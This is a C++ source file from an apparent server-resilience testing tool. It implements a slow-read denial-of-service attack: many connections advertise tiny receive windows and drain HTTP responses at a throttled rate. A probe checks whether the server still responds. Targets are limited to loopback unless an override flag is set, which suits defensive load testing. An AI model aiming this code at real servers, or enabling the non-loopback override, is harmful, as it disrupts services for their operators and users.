/*
 * Copyright 2026 The slowpool authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <string>
#include <vector>

#include "slowpool/errors.hpp"
#include "slowpool/wire.hpp"

namespace slowpool::wire {

namespace {

using Clock = std::chrono::steady_clock;

double now_sec() {
  return std::chrono::duration<double>(Clock::now().time_since_epoch()).count();
}

sockaddr_in make_target(const std::string& host, std::uint16_t port) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  const std::string resolved = host == "localhost" ? "127.0.0.1" : host;
  if (inet_pton(AF_INET, resolved.c_str(), &addr.sin_addr) != 1) {
    throw BadParamError("bad target address: " + host);
  }
  return addr;
}

void set_nonblocking(int fd) {
  const int flags = fcntl(fd, F_GETFL, 0);
  fcntl(fd, F_SETFL, flags | O_NONBLOCK);
}

constexpr const char kRequest[] = "GET / HTTP/1.0\r\nHost: target\r\nConnection: close\r\n\r\n";

enum class ConnPhase { Connecting, Sending, AwaitStatus, Holding, Done };

struct AttackConn {
  int fd = -1;
  ConnPhase phase = ConnPhase::Connecting;
  std::size_t request_sent = 0;
  std::string head;           // first bytes, for the status line
  double read_quota = 0.0;    // bytes the pacer allows right now
  std::int64_t bytes_read = 0;
  bool served = false;   // saw a 200
  bool refused = false;  // saw a 503 / reset / close before 200
  bool closed_by_server = false;
};

/// Classify from the first bytes of the response.
void classify(AttackConn& c) {
  if (c.head.size() < 12) return;
  if (c.head.compare(0, 12, "HTTP/1.0 200") == 0 || c.head.compare(0, 12, "HTTP/1.1 200") == 0) {
    c.served = true;
    c.phase = ConnPhase::Holding;
  } else {
    c.refused = true;
    c.phase = ConnPhase::Done;
  }
}

}  // namespace

AttackSummary slow_read_attack(const AttackConfig& cfg) {
  enforce_loopback(cfg.host, cfg.allow_nonloopback);
  const sockaddr_in target = make_target(cfg.host, cfg.port);

  AttackSummary summary;
  if (cfg.count <= 0) return summary;

  std::vector<AttackConn> conns(static_cast<std::size_t>(cfg.count));
  for (AttackConn& c : conns) {
    c.fd = socket(AF_INET, SOCK_STREAM, 0);
    if (c.fd < 0) {
      c.phase = ConnPhase::Done;
      ++summary.connect_failed;
      continue;
    }
    // Before connect, so the handshake itself advertises the small window.
    setsockopt(c.fd, SOL_SOCKET, SO_RCVBUF, &cfg.recv_buffer_bytes,
               sizeof cfg.recv_buffer_bytes);
    set_nonblocking(c.fd);
    if (connect(c.fd, reinterpret_cast<const sockaddr*>(&target), sizeof target) != 0 &&
        errno != EINPROGRESS) {
      ::close(c.fd);
      c.fd = -1;
      c.phase = ConnPhase::Done;
      ++summary.connect_failed;
    }
  }

  const double start = now_sec();
  const double deadline = start + cfg.hold_sec;
  const double tick = 0.05;
  double last_pace = start;

  std::vector<pollfd> fds;
  while (now_sec() < deadline) {
    fds.clear();
    for (const AttackConn& c : conns) {
      if (c.fd < 0 || c.phase == ConnPhase::Done) continue;
      short events = 0;
      switch (c.phase) {
        case ConnPhase::Connecting:
        case ConnPhase::Sending: events = POLLOUT; break;
        case ConnPhase::AwaitStatus:
        case ConnPhase::Holding: events = POLLIN; break;
        case ConnPhase::Done: break;
      }
      fds.push_back(pollfd{c.fd, events, 0});
    }
    if (fds.empty()) break;

    poll(fds.data(), fds.size(), 50);
    const double now = now_sec();

    // Refill read quotas at the configured pace.
    const double elapsed = now - last_pace;
    if (elapsed >= tick) {
      for (AttackConn& c : conns) {
        if (c.phase == ConnPhase::AwaitStatus || c.phase == ConnPhase::Holding) {
          c.read_quota =
              std::min(c.read_quota + elapsed * static_cast<double>(cfg.read_rate_bps),
                       static_cast<double>(cfg.read_rate_bps));
        }
      }
      last_pace = now;
    }

    std::size_t index = 0;
    for (AttackConn& c : conns) {
      if (c.fd < 0 || c.phase == ConnPhase::Done) continue;
      const short revents =
          index < fds.size() && fds[index].fd == c.fd ? fds[index].revents : 0;
      ++index;

      if (revents & (POLLERR | POLLHUP)) {
        int err = 0;
        socklen_t len = sizeof err;
        getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (c.phase == ConnPhase::Connecting) {
          ++summary.connect_failed;
        } else if (!c.served) {
          c.refused = true;
        } else {
          c.closed_by_server = true;
        }
        ::close(c.fd);
        c.fd = -1;
        c.phase = ConnPhase::Done;
        continue;
      }

      if (c.phase == ConnPhase::Connecting && (revents & POLLOUT)) {
        int err = 0;
        socklen_t len = sizeof err;
        getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0) {
          ++summary.connect_failed;
          ::close(c.fd);
          c.fd = -1;
          c.phase = ConnPhase::Done;
          continue;
        }
        c.phase = ConnPhase::Sending;
      }

      if (c.phase == ConnPhase::Sending) {
        const std::size_t remaining = sizeof kRequest - 1 - c.request_sent;
        const ssize_t n = ::write(c.fd, kRequest + c.request_sent, remaining);
        if (n > 0) {
          c.request_sent += static_cast<std::size_t>(n);
          if (c.request_sent == sizeof kRequest - 1) c.phase = ConnPhase::AwaitStatus;
        } else if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
          c.refused = true;
          ::close(c.fd);
          c.fd = -1;
          c.phase = ConnPhase::Done;
        }
        continue;
      }

      // Paced draining; the status line rides in on the first chunk.
      if ((c.phase == ConnPhase::AwaitStatus || c.phase == ConnPhase::Holding) &&
          c.read_quota >= 1.0) {
        char buf[512];
        const auto want = std::min(sizeof buf, static_cast<std::size_t>(c.read_quota));
        const ssize_t n = ::read(c.fd, buf, want);
        if (n > 0) {
          c.read_quota -= static_cast<double>(n);
          c.bytes_read += n;
          summary.bytes_read += n;
          if (c.phase == ConnPhase::AwaitStatus) {
            c.head.append(buf, static_cast<std::size_t>(std::min<ssize_t>(n, 64)));
            classify(c);
          }
        } else if (n == 0) {
          if (!c.served) {
            c.refused = true;
          } else {
            c.closed_by_server = true;
          }
          ::close(c.fd);
          c.fd = -1;
          c.phase = ConnPhase::Done;
        } else if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
          if (!c.served) {
            c.refused = true;
          } else {
            c.closed_by_server = true;
          }
          ::close(c.fd);
          c.fd = -1;
          c.phase = ConnPhase::Done;
        }
      }
    }
  }

  const double held = now_sec() - start;
  for (AttackConn& c : conns) {
    if (c.served) ++summary.opened;
    if (c.refused) ++summary.refused;
    if (c.served && !c.closed_by_server && c.fd >= 0) ++summary.alive_at_end;
    if (c.served && held > 0.0) {
      summary.per_conn_read_rate_bps.push_back(static_cast<double>(c.bytes_read) / held);
    }
    if (c.fd >= 0) ::close(c.fd);
  }
  return summary;
}

ProbeResult probe(const std::string& host, std::uint16_t port, bool allow_nonloopback) {
  enforce_loopback(host, allow_nonloopback);
  const sockaddr_in target = make_target(host, port);

  ProbeResult result;
  const double start = now_sec();
  constexpr double kDeadlineSec = 2.0;  // must out-pace any timeout under test
  auto remaining_ms = [&]() -> int {
    const double left = (start + kDeadlineSec - now_sec()) * 1000.0;
    return left > 0 ? static_cast<int>(left) : 0;
  };
  auto finish = [&](ProbeOutcome outcome) {
    result.outcome = outcome;
    result.latency_ms = (now_sec() - start) * 1000.0;
    return result;
  };

  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return finish(ProbeOutcome::Refused);
  set_nonblocking(fd);

  if (connect(fd, reinterpret_cast<const sockaddr*>(&target), sizeof target) != 0 &&
      errno != EINPROGRESS) {
    ::close(fd);
    return finish(ProbeOutcome::Refused);
  }

  pollfd pfd{fd, POLLOUT, 0};
  if (poll(&pfd, 1, remaining_ms()) <= 0) {
    ::close(fd);
    return finish(ProbeOutcome::Timeout);
  }
  int err = 0;
  socklen_t len = sizeof err;
  getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
  if (err != 0) {
    ::close(fd);
    return finish(ProbeOutcome::Refused);
  }

  std::size_t sent = 0;
  while (sent < sizeof kRequest - 1) {
    const ssize_t n = ::write(fd, kRequest + sent, sizeof kRequest - 1 - sent);
    if (n > 0) {
      sent += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      pfd.events = POLLOUT;
      if (poll(&pfd, 1, remaining_ms()) <= 0) {
        ::close(fd);
        return finish(ProbeOutcome::Timeout);
      }
      continue;
    }
    ::close(fd);
    return finish(ProbeOutcome::Refused);
  }

  std::string head;
  bool got_header = false;
  std::int64_t content_length = -1;
  std::int64_t body_read = 0;
  while (true) {
    pfd.events = POLLIN;
    const int ready = poll(&pfd, 1, remaining_ms());
    if (ready <= 0) {
      ::close(fd);
      return finish(ProbeOutcome::Timeout);
    }
    char buf[65536];
    const ssize_t n = ::read(fd, buf, sizeof buf);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) continue;
      ::close(fd);
      return finish(ProbeOutcome::Refused);
    }
    if (n == 0) {
      ::close(fd);
      if (!got_header) return finish(ProbeOutcome::Refused);
      const bool complete = content_length < 0 || body_read >= content_length;
      return finish(complete && head.compare(9, 3, "200") == 0 ? ProbeOutcome::Ok
                                                               : ProbeOutcome::Refused);
    }

    if (!got_header) {
      head.append(buf, static_cast<std::size_t>(n));
      const std::size_t blank = head.find("\r\n\r\n");
      if (blank != std::string::npos) {
        got_header = true;
        if (head.size() < 12 || head.compare(0, 5, "HTTP/") != 0) {
          ::close(fd);
          return finish(ProbeOutcome::Refused);
        }
        if (head.compare(9, 3, "200") != 0) {
          ::close(fd);
          return finish(ProbeOutcome::Refused);
        }
        const std::size_t cl = head.find("Content-Length: ");
        if (cl != std::string::npos && cl < blank) {
          content_length = std::strtoll(head.c_str() + cl + 16, nullptr, 10);
        }
        body_read = static_cast<std::int64_t>(head.size() - blank - 4);
      }
    } else {
      body_read += n;
    }

    if (got_header && content_length >= 0 && body_read >= content_length) {
      ::close(fd);
      return finish(ProbeOutcome::Ok);
    }
  }
}

}  // namespace slowpool::wire
